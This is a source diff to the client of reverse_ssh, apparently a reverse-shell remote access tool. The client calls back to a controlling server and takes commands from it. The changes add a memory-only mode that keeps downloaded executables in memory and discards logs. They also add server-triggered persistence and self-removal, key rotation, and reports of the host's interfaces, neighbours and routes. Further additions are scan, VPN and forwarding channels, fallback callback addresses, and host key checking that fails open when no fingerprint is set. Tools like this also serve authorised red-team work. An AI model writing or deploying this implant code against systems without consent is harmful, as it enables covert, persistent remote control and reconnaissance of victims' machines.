@@ -12,12 +12,18 @@ import (
 	"runtime"
 	"strconv"
 	"strings"
+	"sync/atomic"
 	"time"
 
 	"github.com/NHAS/reverse_ssh/internal"
 	"github.com/NHAS/reverse_ssh/internal/client/handlers"
+	"github.com/NHAS/reverse_ssh/internal/client/ipc"
 	"github.com/NHAS/reverse_ssh/internal/client/keys"
+	"github.com/NHAS/reverse_ssh/internal/client/oslog"
+	"github.com/NHAS/reverse_ssh/internal/compress"
+	"github.com/NHAS/reverse_ssh/internal/replay"
 	"github.com/NHAS/reverse_ssh/pkg/logger"
+	"github.com/NHAS/reverse_ssh/pkg/storage"
 	"golang.org/x/crypto/ssh"
 	"golang.org/x/net/websocket"
 )
@@ -38,12 +44,22 @@ func WriteHTTPReq(lines []string, conn net.Conn) error {
 	return nil
 }
 
+// dial races IPv6 and IPv4 (happy eyeballs, RFC 6555) when a name has both, so neither a v6 only nor a v4 only network waits out the other's timeout
+func dial(addr string, timeout time.Duration) (net.Conn, error) {
+	d := net.Dialer{
+		Timeout:       timeout,
+		FallbackDelay: 300 * time.Millisecond,
+	}
+
+	return d.Dial("tcp", addr)
+}
+
 func Connect(addr, proxy string, timeout time.Duration) (conn net.Conn, err error) {
 
 	if len(proxy) != 0 {
 		log.Println("Setting HTTP proxy address as: ", proxy)
 
-		proxyCon, err := net.DialTimeout("tcp", proxy, timeout)
+		proxyCon, err := dial(proxy, timeout)
 		if err != nil {
 			return conn, err
 		}
@@ -88,7 +104,7 @@ func Connect(addr, proxy string, timeout time.Duration) (conn net.Conn, err erro
 		return proxyCon, nil
 	}
 
-	conn, err = net.DialTimeout("tcp", addr, timeout)
+	conn, err = dial(addr, timeout)
 	if err != nil {
 		return conn, err
 	}
@@ -100,15 +116,79 @@ func Connect(addr, proxy string, timeout time.Duration) (conn net.Conn, err erro
 	return
 }
 
+// SetMemoryOnly stops the client from writing anything to disk, downloaded executables must live in memory (memfd on linux) and
+// logging is discarded rather than written out
+func SetMemoryOnly(enabled bool) {
+	storage.SetMemoryOnly(enabled)
+
+	if enabled {
+		log.SetOutput(io.Discard)
+		return
+	}
+
+	log.SetOutput(os.Stderr)
+}
+
+var algorithms, _ = internal.AlgorithmPolicy{}.Resolve()
+
+// SetAlgorithmProfile chooses which SSH algorithms the client offers, see internal.AlgorithmProfiles
+func SetAlgorithmProfile(profile string) error {
+	policy, err := internal.AlgorithmPolicy{Profile: profile}.Resolve()
+	if err != nil {
+		return err
+	}
+
+	algorithms = policy
+	return nil
+}
+
+var joinToken string
+
+// SetJoinToken makes the client enroll its own key with a server issued token, rather than use the key baked in at build time
+func SetJoinToken(token string) {
+	joinToken = token
+}
+
+// Run connects to the server at addr until told to stop. Both addr and fingerprint may be comma separated lists, the addresses are tried in turn
+// until one answers and the server may present any of the listed keys
 func Run(addr, fingerprint, proxyAddr string) {
 
-	sshPriv, sysinfoError := keys.GetPrivateKey()
+	callbacks := strings.Split(addr, ",")
+
+	// addr has its scheme stripped further down, but enrolled keys are stored against what we were told to connect to first
+	destination := callbacks[0]
+
+	builtinKey, sysinfoError := keys.GetPrivateKey()
 	if sysinfoError != nil {
 		log.Fatal("Getting private key failed: ", sysinfoError)
 	}
 
+	sshPriv := builtinKey
+	if joinToken != "" {
+		sshPriv, sysinfoError = keys.GetEnrolledKey(destination)
+		if sysinfoError != nil {
+			log.Fatal("Getting enrollment key failed: ", sysinfoError)
+		}
+	} else if enrolled, ok := keys.LoadEnrolledKey(destination); ok {
+		sshPriv = enrolled
+	}
+
 	l := logger.NewLog("client")
 
+	if localEndpoint {
+		// Named by the built in key, which --local can find without knowing what the server enrolled
+		endpoint := localEndpointName(builtinKey, addr)
+		if c, err := ipc.Dial(endpoint); err == nil {
+			c.Close()
+			log.Println("Another copy of this client is already running with a local endpoint, exiting. Use --local to reach it")
+			return
+		}
+
+		if err := startLocalEndpoint(endpoint); err != nil {
+			l.Warning("Unable to start local endpoint: %s", err)
+		}
+	}
+
 	var username string
 	userInfo, sysinfoError := user.Current()
 	if sysinfoError != nil {
@@ -127,7 +207,13 @@ func Run(addr, fingerprint, proxyAddr string) {
 	config := &ssh.ClientConfig{
 		User: fmt.Sprintf("%s.%s", username, hostname),
 		Auth: []ssh.AuthMethod{
-			ssh.PublicKeys(sshPriv),
+			// The server may rotate our key while connected, so offer whatever we were last given, then the built in key in case the server never recorded it
+			ssh.PublicKeysCallback(func() ([]ssh.Signer, error) {
+				if enrolled, ok := keys.LoadEnrolledKey(destination); ok {
+					return []ssh.Signer{enrolled, builtinKey}, nil
+				}
+				return []ssh.Signer{builtinKey}, nil
+			}),
 		},
 		HostKeyCallback: func(hostname string, remote net.Addr, key ssh.PublicKey) error {
 			if fingerprint == "" { // If a server key isnt supplied, fail open. Potentially should change this for more paranoid people
@@ -135,25 +221,47 @@ func Run(addr, fingerprint, proxyAddr string) {
 				return nil
 			}
 
-			if internal.FingerprintSHA256Hex(key) != fingerprint {
-				return fmt.Errorf("Server public key invalid, expected: %s, got: %s", fingerprint, internal.FingerprintSHA256Hex(key))
+			for _, expected := range strings.Split(fingerprint, ",") {
+				if internal.FingerprintSHA256Hex(key) == strings.TrimSpace(expected) {
+					return nil
+				}
 			}
 
-			return nil
+			return fmt.Errorf("Server public key invalid, expected: %s, got: %s", fingerprint, internal.FingerprintSHA256Hex(key))
 		},
-		ClientVersion: "SSH-" + internal.Version + "-" + runtime.GOOS + "_" + runtime.GOARCH,
+		ClientVersion:     "SSH-" + internal.Version + "-" + runtime.GOOS + "_" + runtime.GOARCH,
+		HostKeyAlgorithms: algorithms.HostKeyAlgorithms,
+	}
+	algorithms.Apply(&config.Config)
+
+	if joinToken != "" {
+		// Only reached while the server doesnt know our key, once the token is redeemed the server drops us and the next attempt uses the key
+		config.Auth = append(config.Auth, ssh.KeyboardInteractive(func(name, instruction string, questions []string, echos []bool) ([]string, error) {
+			answers := make([]string, len(questions))
+			for i := range answers {
+				answers[i] = joinToken
+			}
+			return answers, nil
+		}))
 	}
 
-	// This sucks, but cant use url parse as it errors if you do something like '1.1.1.1:4343' and this is... somehow... more robust
-	useTLS := strings.HasPrefix(addr, "tls://") || strings.HasPrefix(addr, "wss://")
-	useWebsockets := strings.HasPrefix(addr, "ws://") || strings.HasPrefix(addr, "wss://")
-
-	addr = strings.TrimPrefix(strings.TrimPrefix(strings.TrimPrefix(addr, "tls://"), "wss://"), "ws://")
+	var useTLS, useWebsockets bool
 
 	triedHttpproxy := false
 	triedHttpsproxy := false
+	next := 0
 	for {
 
+		current := next
+		next = (next + 1) % len(callbacks)
+
+		// This sucks, but cant use url parse as it errors if you do something like '1.1.1.1:4343' and this is... somehow... more robust
+		addr = strings.TrimSpace(callbacks[current])
+		useTLS = strings.HasPrefix(addr, "tls://") || strings.HasPrefix(addr, "wss://")
+		useWebsockets = strings.HasPrefix(addr, "ws://") || strings.HasPrefix(addr, "wss://")
+
+		addr = strings.TrimPrefix(strings.TrimPrefix(strings.TrimPrefix(addr, "tls://"), "wss://"), "ws://")
+
 		log.Println("Connecting to ", addr)
 		conn, err := Connect(addr, proxyAddr, config.Timeout)
 		if err != nil {
@@ -187,9 +295,8 @@ func Run(addr, fingerprint, proxyAddr string) {
 		if useTLS {
 
 			sniServerName := addr
-			parts := strings.Split(addr, ":")
-			if len(parts) == 2 {
-				sniServerName = parts[0]
+			if host, _, err := net.SplitHostPort(addr); err == nil {
+				sniServerName = host
 			}
 
 			clientTlsConn := tls.Client(conn, &tls.Config{
@@ -216,6 +323,10 @@ func Run(addr, fingerprint, proxyAddr string) {
 				continue
 			}
 
+			if err := replay.Sign(c.Header, sshPriv, addr, time.Now()); err != nil {
+				log.Println("Could not sign websocket upgrade: ", err)
+			}
+
 			wsConn, err := websocket.NewClient(c, conn)
 			if err != nil {
 				log.Printf("Unable to connect WS: %s\n", err)
@@ -243,6 +354,15 @@ func Run(addr, fingerprint, proxyAddr string) {
 		}
 
 		log.Println("Successfully connnected", addr)
+		oslog.Event("Connected to %s", addr)
+
+		// Go back to whichever server we last reached when this connection drops
+		next = current
+
+		setCurrentConn(sshConn)
+
+		// Set when the server turns us away for being over its client limits
+		var rejected int32
 
 		go func() {
 
@@ -250,11 +370,40 @@ func Run(addr, fingerprint, proxyAddr string) {
 
 				switch req.Type {
 
+				case "rejected":
+					log.Printf("Server refused this client: %s\n", req.Payload)
+					atomic.StoreInt32(&rejected, 1)
+					req.Reply(true, nil)
+
 				case "kill":
 					log.Println("Got kill command, goodbye")
+					oslog.Event("Told to exit by the server")
 					<-time.After(5 * time.Second)
 					os.Exit(0)
 
+				case "self-remove":
+					err := handlers.SelfRemove()
+					if err != nil {
+						req.Reply(false, []byte(err.Error()))
+					} else {
+						req.Reply(true, nil)
+					}
+
+					log.Println("Told to remove myself, goodbye")
+					oslog.Event("Removed by the server")
+					<-time.After(5 * time.Second)
+					os.Exit(0)
+
+				case "rotate-key":
+					signer, err := keys.NewEnrolledKey(destination)
+					if err != nil {
+						req.Reply(false, []byte(err.Error()))
+						continue
+					}
+
+					log.Println("Server rotated our key")
+					req.Reply(true, ssh.MarshalAuthorizedKey(signer.PublicKey()))
+
 				case "keepalive-rssh@golang.org":
 					req.Reply(false, nil)
 					timeout, err := strconv.Atoi(string(req.Payload))
@@ -278,6 +427,75 @@ func Run(addr, fingerprint, proxyAddr string) {
 					// Use ssh.Marshal instead of json.Marshal so that garble doesnt cook things
 					req.Reply(true, ssh.Marshal(f))
 
+				case "query-capabilities":
+
+					var hello internal.Hello
+					if len(req.Payload) == 0 || ssh.Unmarshal(req.Payload, &hello) != nil {
+						// A server from before protocol versions only understands the list
+						c := struct {
+							Capabilities []string
+						}{
+							Capabilities: handlers.Capabilities(),
+						}
+
+						req.Reply(true, ssh.Marshal(c))
+						continue
+					}
+
+					log.Printf("Server speaks protocol %d, we speak %d\n", hello.Protocol, internal.ProtocolVersion)
+					req.Reply(true, ssh.Marshal(internal.Features{
+						Capabilities: handlers.Capabilities(),
+						Protocol:     internal.ProtocolVersion,
+					}))
+
+				case "query-interfaces":
+					interfaces, err := handlers.Interfaces()
+					if err != nil {
+						req.Reply(false, []byte(err.Error()))
+						continue
+					}
+
+					req.Reply(true, internal.MarshalInterfaces(interfaces))
+
+				case "query-neighbours":
+					neighbours, err := handlers.Neighbours()
+					if err != nil {
+						req.Reply(false, []byte(err.Error()))
+						continue
+					}
+
+					req.Reply(true, internal.MarshalNeighbours(neighbours))
+
+				case "query-routes":
+					routes, err := handlers.Routes()
+					if err != nil {
+						req.Reply(false, []byte(err.Error()))
+						continue
+					}
+
+					req.Reply(true, internal.MarshalRoutes(routes))
+
+				case "memory-only":
+					// No payload is just a query of the current state
+					if len(req.Payload) > 0 {
+						var m struct {
+							Enabled bool
+						}
+
+						err := ssh.Unmarshal(req.Payload, &m)
+						if err != nil {
+							req.Reply(false, []byte(fmt.Sprintf("Unable to unmarshal memory only request: %s", err.Error())))
+							continue
+						}
+
+						SetMemoryOnly(m.Enabled)
+					}
+
+					req.Reply(true, ssh.Marshal(struct{ Enabled bool }{storage.MemoryOnly()}))
+
+				case "persist":
+					go handlers.Persist(req)
+
 				case "cancel-tcpip-forward":
 					var rf internal.RemoteForwardRequest
 
@@ -315,9 +533,24 @@ func Run(addr, fingerprint, proxyAddr string) {
 		err = internal.RegisterChannelCallbacks(nil, chans, clientLog, map[string]internal.ChannelHandler{
 			"session": handlers.ServerConsoleSession(sshConn),
 			"jump":    handlers.JumpHandler(sshPriv, sshConn),
+			"scan":    handlers.Scan,
+			// Opened by the server itself for the tcp command, operators forwarding through the client arrive via jump instead
+			"direct-tcpip":       handlers.LocalForward,
+			compress.ChannelType: handlers.CompressedForward,
+			"vpn":                handlers.VPN,
 		})
 
+		setCurrentConn(nil)
 		sshConn.Close()
+		oslog.Event("Disconnected from %s", addr)
+
+		// Ports opened for the server relay over the connection that just ended, the server asks for them again once reconnected
+		handlers.StopServerRemoteForwards()
+
+		if atomic.LoadInt32(&rejected) == 1 {
+			<-time.After(time.Minute)
+			continue
+		}
 
 		if err != nil {
 			log.Printf("Server disconnected unexpectedly: %s\n", err)